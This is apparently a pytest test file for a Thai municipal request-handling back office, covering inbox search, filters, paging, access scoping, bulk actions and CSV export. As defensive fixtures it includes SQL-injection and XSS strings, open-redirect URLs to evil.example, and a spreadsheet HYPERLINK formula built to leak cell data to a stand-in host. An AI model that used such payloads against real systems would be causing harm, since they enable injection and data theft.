"""The inbox: tabs with counts, filters, Thai search inside sentences, sorting, keyset pages,
a query budget, confidential types and department scope."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any
from urllib.parse import parse_qsl

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from onestop.cases.models import Case, Priority
from onestop.cases.services import By, case_assign, case_transition
from onestop.cases.workflow import Actor, Status
from onestop.core.models import AuditAction, AuditLog
from onestop.core.spreadsheets import safe_cell
from onestop.organisations.models import Organisation
from tests.backoffice_helpers import sign_in
from tests.conftest import Staff
from tests.factories import make_case, valid_national_id

INBOX = "/staff/wangchao/"


def _numbers(response: Any) -> list[str]:
    return [c.number for c in response.context["page"].cases]


def _counts(response: Any) -> dict[str, int]:
    """The tabs' counts as shown ("1,234"; beyond the cap a sentence, see the capped test)."""
    return {t["key"]: int(t["count"].replace(",", "")) for t in response.context["tabs"]}


def test_the_counter_sees_new_requests_first_with_counts_per_tab(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    new = make_case(org_a, subject="ไฟฟ้าดับหน้าวัด")
    waiting = make_case(org_a)
    case_transition(case=waiting, to=Status.RECEIVED, actor_kind=Actor.STAFF)
    case_transition(
        case=waiting, to=Status.WAITING_CITIZEN, actor_kind=Actor.STAFF, public_message="ขอรูป"
    )
    response = sign_in(client, staff_a.counter).get(INBOX)
    assert response.status_code == 200
    assert _numbers(response) == [new.number]
    assert _counts(response) == {
        "new": 1, "mine": 0, "waiting": 1, "overdue": 0, "all": 2, "closed": 0,
    }  # fmt: skip
    assert "ไฟฟ้าดับหน้าวัด" in response.content.decode()


def test_overdue_requests_are_flagged_and_counted(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    late = make_case(org_a, subject="ถนนพังนานแล้ว")
    Case.objects.filter(pk=late.pk).update(due_date=timezone.localdate() - dt.timedelta(days=1))
    response = sign_in(client, staff_a.counter).get(INBOX, {"tab": "overdue"})
    assert _numbers(response) == [late.number]
    assert _counts(response)["overdue"] == 1
    assert "เกินกำหนด" in response.content.decode()


def test_search_finds_a_thai_word_inside_a_sentence(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    bin_request = make_case(org_a, subject="ขอถังขยะใบใหม่ที่หน้าตลาด")
    make_case(org_a, subject="ไฟส่องสว่างหน้าบ้านดับ")
    response = sign_in(client, staff_a.counter).get(INBOX, {"tab": "all", "q": "ขยะ"})
    assert _numbers(response) == [bin_request.number]


def test_search_finds_the_requester_by_name_and_the_request_by_its_printed_number(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = make_case(org_a)
    sign_in(client, staff_a.counter)
    assert _numbers(client.get(INBOX, {"tab": "all", "q": "ศรีสุข"})) == [case.number]
    assert _numbers(client.get(INBOX, {"tab": "all", "q": case.display_number})) == [case.number]


def test_hostile_search_text_is_just_text(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    make_case(org_a)
    sign_in(client, staff_a.counter)
    for text in ["%", "_", "' OR 1=1 --", "<script>alert(1)</script>"]:
        response = client.get(INBOX, {"tab": "all", "q": text})
        assert response.status_code == 200
        assert _numbers(response) == [], text
    assert "<script>alert(1)</script>" not in response.content.decode()
    too_long = client.get(INBOX, {"tab": "all", "q": "ก" * 500})
    assert too_long.status_code == 200
    assert "error-summary" in too_long.content.decode()


def test_filters_by_status_type_department_channel_and_buddhist_era_dates(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    light = make_case(org_a, type_key="street-light")
    general = make_case(org_a, type_key="general")
    sign_in(client, staff_a.counter)
    light_type: int = light.request_type_id
    response = client.get(INBOX, {"tab": "all", "request_type": str(light_type)})
    assert _numbers(response) == [light.number]
    office: int = org_a.departments.get(key="office").pk
    assert _numbers(client.get(INBOX, {"tab": "all", "department": str(office)})) == [
        general.number
    ]
    assert _numbers(client.get(INBOX, {"tab": "all", "channel": "counter"})) == []
    today = timezone.localdate()
    be_today = f"{today.day}/{today.month}/{today.year + 543}"
    both = client.get(INBOX, {"tab": "all", "date_from": be_today, "date_to": be_today})
    assert set(_numbers(both)) == {light.number, general.number}
    yesterday = today - dt.timedelta(days=1)
    be_yesterday = f"{yesterday.day}/{yesterday.month}/{yesterday.year + 543}"
    assert _numbers(client.get(INBOX, {"tab": "all", "date_to": be_yesterday})) == []


def test_a_wrong_date_is_reported_at_the_top_and_the_list_still_shows(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    make_case(org_a)
    response = sign_in(client, staff_a.counter).get(
        INBOX, {"tab": "all", "date_from": "31/02/2569"}
    )
    assert response.status_code == 200
    assert "error-summary" in response.content.decode()
    assert len(_numbers(response)) == 1


def test_sorting_by_priority_and_due_date(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    normal = make_case(org_a)
    urgent = make_case(org_a)
    assert normal.due_date is not None
    Case.objects.filter(pk=urgent.pk).update(
        priority=Priority.URGENT, due_date=normal.due_date + dt.timedelta(days=5)
    )
    sign_in(client, staff_a.counter)
    assert _numbers(client.get(INBOX, {"tab": "all", "sort": "-priority"}))[0] == urgent.number
    assert _numbers(client.get(INBOX, {"tab": "all", "sort": "due"}))[0] == normal.number


@pytest.mark.parametrize("sort", ["-submitted", "submitted", "due", "-priority"])
def test_keyset_pages_show_every_request_once(
    sort: str, org_a: Organisation, staff_a: Staff, client: Client,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setattr("onestop.backoffice.selectors.PAGE_SIZE", 3)
    created = {make_case(org_a).number for _ in range(8)}
    sign_in(client, staff_a.counter)
    seen: list[str] = []
    pages = 1
    params: dict[str, str] = {"tab": "all", "sort": sort}
    for _page in range(5):
        response = client.get(INBOX, params)
        seen += _numbers(response)
        if not response.context["next_query"]:
            break
        pages += 1
        params = dict(parse_qsl(response.context["next_query"]))
    assert pages == 3  # 3 + 3 + 2
    assert sorted(seen) == sorted(created)
    assert len(seen) == len(set(seen))


def test_a_tampered_page_cursor_shows_the_first_page(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = make_case(org_a)
    sign_in(client, staff_a.counter)
    for cursor in ["garbage", "~", "2026-13-01~1", "x~y", "2026-01-01T00:00:00~5"]:
        response = client.get(INBOX, {"tab": "all", "after": cursor})
        assert response.status_code == 200
    assert _numbers(client.get(INBOX, {"tab": "all", "after": "junk"})) == [case.number]


def test_the_inbox_stays_within_its_query_budget(
    org_a: Organisation, staff_a: Staff, client: Client,
    django_assert_max_num_queries: Any,
) -> None:  # fmt: skip
    for _ in range(30):
        make_case(org_a)
    sign_in(client, staff_a.counter)
    client.get(INBOX)  # warm up the session
    # 13 to read (2 of them the bulk bar's assignment choices), 1 to write the audit entry
    with django_assert_max_num_queries(14):
        response = client.get(INBOX, {"tab": "all", "q": "ไฟ", "sort": "due"})
    assert len(_numbers(response)) == 30


def test_each_inbox_page_is_on_the_audit_trail_with_the_requests_it_showed(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    shown = make_case(org_a)
    sign_in(client, staff_a.counter)
    client.get(INBOX, {"tab": "all"})
    entry = AuditLog.objects.filter(action=AuditAction.LIST_VIEW).latest("pk")
    assert entry.actor == staff_a.counter and entry.organisation_id == org_a.pk
    assert entry.object_ref == "all"
    assert shown.display_number in entry.details["numbers"]


def test_a_department_officer_sees_only_their_department_and_what_is_assigned_to_them(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    engineering = make_case(org_a, type_key="street-light")
    office = make_case(org_a, type_key="general")
    mine = make_case(org_a, type_key="general")
    case_assign(
        case=mine, department=org_a.departments.get(key="office"), assignee=staff_a.officer,
        by=By.staff(staff_a.counter),
    )  # fmt: skip
    # Every division they may see ("all" chosen in the department filter).
    response = sign_in(client, staff_a.officer).get(INBOX, {"tab": "all", "department": ""})
    assert set(_numbers(response)) == {engineering.number, mine.number}
    assert office.number not in _numbers(response)
    assert _counts(response)["mine"] == 1
    assert _counts(response)["department"] == 1


def test_confidential_complaints_are_invisible_without_the_grant(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    secret = make_case(org_a, type_key="corruption", subject="ทุจริตจัดซื้อ")
    ordinary = make_case(org_a)
    # The counter officer: not in lists, search, counts, filters or by direct URL.
    sign_in(client, staff_a.counter)
    response = client.get(INBOX, {"tab": "all"})
    assert _numbers(response) == [ordinary.number]
    assert _counts(response)["all"] == 1
    assert "ทุจริตจัดซื้อ" not in response.content.decode()
    assert "แจ้งการทุจริต" not in response.content.decode()  # not even as a filter choice
    assert _numbers(client.get(INBOX, {"tab": "all", "q": "ทุจริต"})) == []
    assert _numbers(client.get(INBOX, {"tab": "all", "q": secret.number})) == []
    assert client.get(f"{INBOX}cases/{secret.number}/").status_code == 404
    # The executive, who holds the grant, sees it.
    executive = sign_in(Client(), staff_a.executive)
    assert secret.number in _numbers(executive.get(INBOX, {"tab": "all"}))
    assert executive.get(f"{INBOX}cases/{secret.number}/").status_code == 200


def test_another_organisations_requests_never_appear(
    org_a: Organisation, org_b: Organisation, staff_a: Staff, client: Client
) -> None:
    theirs = make_case(org_b, subject="ของอีกองค์กร")
    response = sign_in(client, staff_a.executive).get(INBOX, {"tab": "all", "q": "อีกองค์กร"})
    assert _numbers(response) == []
    assert client.get(f"{INBOX}cases/{theirs.number}/").status_code == 404


# Bulk actions ----------------------------------------------------------------------------------


def _tick(*cases: Case) -> list[str]:
    for case in cases:
        case.refresh_from_db()
    return [f"{c.number}:{c.version}" for c in cases]


def test_the_counter_receives_and_assigns_several_requests_at_once(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    first, second = make_case(org_a), make_case(org_a)
    sign_in(client, staff_a.counter)
    response = client.post(
        "/staff/wangchao/bulk/", {"action": "receive", "cases": _tick(first, second), "next": INBOX}
    )
    assert response.status_code == 302
    assert response["Location"] == INBOX
    engineering = org_a.departments.get(key="engineering")
    client.post("/staff/wangchao/bulk/", {
        "action": "assign", "cases": _tick(first, second), "department": engineering.pk,
        "assignee": staff_a.officer.pk,
    })  # fmt: skip
    for case in (first, second):
        case.refresh_from_db()
        assert case.status == Status.RECEIVED
        assert (case.department, case.assignee) == (engineering, staff_a.officer)


def test_bulk_skips_requests_in_the_wrong_state_or_changed_meanwhile_and_says_so(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    fresh, stale, received = make_case(org_a), make_case(org_a), make_case(org_a)
    ticked = _tick(fresh, stale, received)
    case_transition(case=received, to=Status.RECEIVED, actor_kind=Actor.STAFF)
    ticked[2] = _tick(received)[0]  # ticked after it was received: the state refuses it
    case_assign(case=stale, department=org_a.departments.get(key="office"), assignee=None,
                by=By.staff(staff_a.head))  # fmt: skip
    sign_in(client, staff_a.counter)
    response = client.post(
        "/staff/wangchao/bulk/", {"action": "receive", "cases": ticked}, follow=True
    )
    page = response.content.decode()
    assert "รับเรื่อง แล้ว 1 เรื่อง" in page
    assert "มีผู้อื่นแก้ไขคำร้องนี้ไปแล้ว" in page
    assert "ดำเนินการนี้ไม่ได้ในสถานะ" in page
    stale.refresh_from_db()
    assert stale.status == Status.SUBMITTED


def _received(org: Organisation, *, engineering_by: User | None = None) -> Case:
    """A request received; with `engineering_by`, first routed by them to กองช่าง."""
    case = make_case(org)
    if engineering_by is not None:
        engineering = org.departments.get(key="engineering")
        case = case_assign(
            case=case, department=engineering, assignee=None, by=By.staff(engineering_by)
        )
    return case_transition(case=case, to=Status.RECEIVED, actor_kind=Actor.STAFF)


def test_the_head_completes_several_requests_with_one_message_for_every_citizen(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    first = _received(org_a, engineering_by=staff_a.head)
    second = _received(org_a, engineering_by=staff_a.head)
    sign_in(client, staff_a.head)
    response = client.post("/staff/wangchao/bulk/", {
        "action": "complete", "cases": _tick(first, second),
        "public_message": "ซ่อมถนนทั้งสายเสร็จแล้ว",
    }, follow=True)  # fmt: skip
    page = response.content.decode()
    assert "ดำเนินการแล้วเสร็จ แล้ว 2 เรื่อง" in page
    assert first.display_number in page and second.display_number in page
    for case in (first, second):
        case.refresh_from_db()
        assert case.status == Status.COMPLETED
        assert case.events.filter(public_message="ซ่อมถนนทั้งสายเสร็จแล้ว").count() == 1
        entry = AuditLog.objects.filter(
            action=AuditAction.CASE_CHANGE, object_ref=case.number
        ).latest("pk")
        assert (entry.actor, entry.details["status"]) == (staff_a.head, Status.COMPLETED)


def test_bulk_in_progress_moves_received_requests_and_refuses_the_others_saying_why(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    received, working, new = _received(org_a), _received(org_a), make_case(org_a)
    case_transition(case=working, to=Status.IN_PROGRESS, actor_kind=Actor.STAFF)
    sign_in(client, staff_a.counter)
    response = client.post("/staff/wangchao/bulk/", {
        "action": "start", "cases": _tick(received, working, new),
        "public_message": "ช่างจะเข้าไปดูสัปดาห์หน้า",
    }, follow=True)  # fmt: skip
    page = response.content.decode()
    assert f"เปลี่ยนเป็นกำลังดำเนินการ แล้ว 1 เรื่อง: {received.display_number}" in page
    # Already in progress, or not yet received: the move does not apply, and each says why.
    assert f"{working.display_number}: ดำเนินการนี้ไม่ได้ในสถานะ “กำลังดำเนินการ”" in page
    assert f"{new.display_number}: ดำเนินการนี้ไม่ได้ในสถานะ" in page
    statuses = [Case.objects.get(pk=c.pk).status for c in (received, working, new)]
    assert statuses == [Status.IN_PROGRESS, Status.IN_PROGRESS, Status.SUBMITTED]
    assert (
        AuditLog.objects.filter(action=AuditAction.CASE_CHANGE, actor=staff_a.counter).count() == 1
    )


def test_bulk_forwards_and_refuses_with_the_citizen_told_the_agency_and_the_reason(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    one, two = make_case(org_a), make_case(org_a)
    sign_in(client, staff_a.counter)
    client.post("/staff/wangchao/bulk/", {
        "action": "forward", "cases": _tick(one), "agency": "การไฟฟ้าส่วนภูมิภาค",
        "letter_number": "ตก 123/2569",
    })  # fmt: skip
    client.post("/staff/wangchao/bulk/", {
        "action": "reject", "cases": _tick(two), "public_message": "อยู่นอกเขตเทศบาล",
    })  # fmt: skip
    one.refresh_from_db()
    two.refresh_from_db()
    assert (one.status, two.status) == (Status.FORWARDED, Status.REJECTED)
    assert "การไฟฟ้าส่วนภูมิภาค" in one.events.get(to_status=Status.FORWARDED).public_message
    assert two.events.get(to_status=Status.REJECTED).public_message == "อยู่นอกเขตเทศบาล"


@pytest.mark.parametrize(
    ("action", "missing"),
    [("complete", "กรุณาระบุเหตุผลหรือข้อความถึงผู้ยื่นคำร้อง"),
     ("reject", "กรุณาระบุเหตุผลหรือข้อความถึงผู้ยื่นคำร้อง"),
     ("forward", "กรุณาระบุชื่อหน่วยงานที่ส่งต่อ")],
)  # fmt: skip
def test_bulk_status_changes_need_their_message_and_change_nothing_without_it(
    org_a: Organisation, staff_a: Staff, client: Client, action: str, missing: str
) -> None:
    case = _received(org_a, engineering_by=staff_a.head)
    sign_in(client, staff_a.head)
    changes = AuditLog.objects.filter(action=AuditAction.CASE_CHANGE)
    before = changes.count()
    response = client.post(
        "/staff/wangchao/bulk/",
        {"action": action, "cases": _tick(case), "public_message": "   "},
        follow=True,
    )
    assert missing in response.content.decode()
    case.refresh_from_db()
    assert case.status == Status.RECEIVED
    assert changes.count() == before


def test_bulk_status_change_refuses_a_request_changed_since_the_inbox_was_shown(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = _received(org_a)
    ticked = _tick(case)
    case_assign(case=case, department=org_a.departments.get(key="office"), assignee=None,
                by=By.staff(staff_a.head))  # fmt: skip
    sign_in(client, staff_a.counter)
    response = client.post("/staff/wangchao/bulk/", {
        "action": "reject", "cases": ticked, "public_message": "ซ้ำซ้อน",
    }, follow=True)  # fmt: skip
    assert f"{case.display_number}: มีผู้อื่นแก้ไขคำร้องนี้ไปแล้ว" in response.content.decode()
    case.refresh_from_db()
    assert case.status == Status.RECEIVED


def test_bulk_status_change_never_reaches_another_organisation_or_a_confidential_request(
    org_a: Organisation, org_b: Organisation, staff_a: Staff, client: Client
) -> None:
    mine = _received(org_a)
    secret = _received(org_a)
    Case.objects.filter(pk=secret.pk).update(request_type=org_a.request_types.get(key="corruption"))
    theirs = _received(org_b)
    sign_in(client, staff_a.counter)
    response = client.post("/staff/wangchao/bulk/", {
        "action": "reject", "cases": _tick(mine, secret, theirs), "public_message": "ไม่รับ",
    }, follow=True)  # fmt: skip
    page = response.content.decode()
    assert page.count("ไม่พบคำร้อง") == 2
    assert "ไม่รับเรื่อง แล้ว 1 เรื่อง" in page
    assert secret.display_number not in page and theirs.display_number not in page
    for case in (secret, theirs):
        case.refresh_from_db()
        assert case.status == Status.RECEIVED
    assert list(
        AuditLog.objects.filter(action=AuditAction.CASE_CHANGE, actor=staff_a.counter).values_list(
            "object_ref", flat=True
        )
    ) == [mine.number]


def test_bulk_merges_duplicates_into_an_original(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    original, one, two = make_case(org_a), make_case(org_a), make_case(org_a)
    sign_in(client, staff_a.counter)
    client.post("/staff/wangchao/bulk/", {
        "action": "duplicate", "cases": _tick(one, two), "original": original.display_number,
    })  # fmt: skip
    assert set(original.duplicates.values_list("pk", flat=True)) == {one.pk, two.pk}


def test_bulk_never_reaches_invisible_or_foreign_requests(
    org_a: Organisation, org_b: Organisation, staff_a: Staff, client: Client
) -> None:
    secret, theirs = make_case(org_a, type_key="corruption"), make_case(org_b)
    sign_in(client, staff_a.counter)
    response = client.post(
        "/staff/wangchao/bulk/", {"action": "receive", "cases": _tick(secret, theirs)}, follow=True
    )
    assert response.content.decode().count("ไม่พบคำร้อง") == 2
    for case in (secret, theirs):
        case.refresh_from_db()
        assert case.status == Status.SUBMITTED


def test_read_only_roles_get_no_bulk_bar_and_cannot_post_one(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = make_case(org_a)
    sign_in(client, staff_a.executive)
    assert 'id="bulk-form"' not in client.get(INBOX).content.decode()
    client.post("/staff/wangchao/bulk/", {"action": "receive", "cases": _tick(case)})
    case.refresh_from_db()
    assert case.status == Status.SUBMITTED


def test_bulk_refuses_an_off_site_return_address(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = make_case(org_a)
    sign_in(client, staff_a.counter)
    for target in ["https://evil.example/", "//evil.example/", "/staff/other/"]:
        response = client.post(
            "/staff/wangchao/bulk/", {"action": "receive", "cases": _tick(case), "next": target}
        )
        assert response["Location"] == INBOX


# Export ----------------------------------------------------------------------------------------


def _csv(response: Any) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_export_follows_the_filters_masks_the_phone_and_is_recorded(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    national_id = valid_national_id()
    lamp = make_case(org_a, subject="ไฟดับหน้าวัด", national_id=national_id)
    make_case(org_a, subject="ขอถังขยะ")
    response = sign_in(client, staff_a.counter).get(
        "/staff/wangchao/export.csv", {"tab": "all", "q": "ไฟดับ"}
    )
    assert response["Content-Type"].startswith("text/csv")
    text = _csv(response)
    assert lamp.display_number in text
    assert "ขอถังขยะ" not in text
    assert national_id not in text
    assert "+66812345678" not in text and "08x-xxx-5678" in text
    entry = AuditLog.objects.get(action=AuditAction.EXPORT)
    assert entry.details["rows"] == 1


def test_confidential_complaints_are_never_exported_even_for_the_executive(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    secret = make_case(org_a, type_key="corruption", subject="ทุจริตจัดซื้อ")
    text = _csv(sign_in(client, staff_a.executive).get("/staff/wangchao/export.csv"))
    assert secret.display_number not in text
    assert "ทุจริตจัดซื้อ" not in text


def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
        "@SUM(1)",
        "+66 ไฟดับ",
        "-1 ถนนพัง",
    ]
    for subject in hostile:
        make_case(org_a, subject=subject)
    text = _csv(sign_in(client, staff_a.counter).get("/staff/wangchao/export.csv"))
    rows = list(csv.reader(io.StringIO(text)))
    subjects = {row[1] for row in rows[1:]}
    assert subjects == {"'" + subject for subject in hostile}
    # No cell at all starts a formula.
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_neutralised_too() -> None:
    # The request forms strip these from the ends of what is typed; the export does not rely
    # on it.
    assert safe_cell("\t=1+1") == "'\t=1+1"
    assert safe_cell("\r=1+1") == "'\r=1+1"
    assert safe_cell("ไฟดับ = 3 ดวง") == "ไฟดับ = 3 ดวง"
    assert safe_cell(None) == ""


def test_the_export_has_dates_in_iso_and_in_the_buddhist_era(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    case = make_case(org_a)
    text = _csv(sign_in(client, staff_a.counter).get("/staff/wangchao/export.csv"))
    header, row = list(csv.reader(io.StringIO(text)))
    record = dict(zip(header, row, strict=True))
    submitted = timezone.localtime(case.submitted_at)
    assert record["ยื่นเมื่อ (ค.ศ.)"] == submitted.strftime("%Y-%m-%d %H:%M")
    assert record["ยื่นเมื่อ (พ.ศ.)"] == (f"{submitted:%d/%m}/{submitted.year + 543} {submitted:%H:%M}")
    assert case.due_date is not None
    assert record["กำหนดแล้วเสร็จ (ค.ศ.)"] == case.due_date.isoformat()
    assert record["กำหนดแล้วเสร็จ (พ.ศ.)"] == (f"{case.due_date:%d/%m}/{case.due_date.year + 543}")


def test_the_department_filter_starts_on_the_members_own_division_with_all_one_click_away(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    engineering = make_case(org_a, type_key="street-light")
    elsewhere = make_case(org_a, type_key="general")
    case_assign(
        case=elsewhere, department=org_a.departments.get(key="office"), assignee=staff_a.head,
        by=By.staff(staff_a.counter),
    )  # fmt: skip
    sign_in(client, staff_a.head)
    response = client.get(INBOX, {"tab": "all"})
    assert _numbers(response) == [engineering.number]
    html = response.content.decode()
    own = org_a.departments.get(key="engineering")
    assert f"แสดงเฉพาะคำร้องของ{own.name}" in html
    assert f'<option value="{own.pk}" selected>' in html
    assert "department=" in html and "แสดงทุกกอง/สำนัก" in html
    assert f"department={own.pk}" in response.context["export_query"]
    everything = client.get("/staff/wangchao/?" + response.context["all_departments_query"])
    assert set(_numbers(everything)) == {engineering.number, elsewhere.number}
    assert "แสดงเฉพาะคำร้องของ" not in everything.content.decode()
    # "Mine" is what is assigned to them, wherever it is.
    assert elsewhere.number in _numbers(client.get(INBOX, {"tab": "mine"}))


def test_the_counter_and_the_executive_have_no_default_division(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    make_case(org_a, type_key="street-light")
    make_case(org_a, type_key="general")
    for user in (staff_a.counter, staff_a.executive):
        response = sign_in(client, user).get(INBOX, {"tab": "all"})
        assert len(_numbers(response)) == 2
        assert "แสดงเฉพาะคำร้องของ" not in response.content.decode()


def test_the_bulk_bar_says_which_action_uses_each_field_and_works_without_javascript(
    org_a: Organisation, staff_a: Staff, client: Client
) -> None:
    make_case(org_a)
    html = sign_in(client, staff_a.counter).get(INBOX, {"tab": "all"}).content.decode()
    bar = html[html.index('id="bulk-form"') : html.index("</form>", html.index('id="bulk-form"'))]

    def uses(field_id: str) -> set[str]:
        before = bar[: bar.index(f'id="{field_id}"')]
        return set(before[before.rindex('data-for="') + 10 :].split('"')[0].split())

    assert uses("bulk-department") == {"assign"} and uses("bulk-assignee") == {"assign"}
    assert uses("bulk-original") == {"duplicate"}
    assert uses("bulk-agency") == {"forward"} and uses("bulk-letter") == {"forward"}
    assert {"receive", "reject", "forward"} <= uses("bulk-message")  # counter: no "complete"
    assert "assign" not in uses("bulk-message") and "duplicate" not in uses("bulk-message")
    # Without JavaScript every field is there, with a note; the script is a static file.
    assert "hidden" not in bar.split("data-bulk-note")[0][-50:]
    assert "กรอกเฉพาะช่องที่การดำเนินการที่เลือกใช้" in bar
    assert re.search(r'<script src="/static/js/bulk-bar[^"]*\.js" defer>', html)
    assert "<script>" not in html  # no inline script
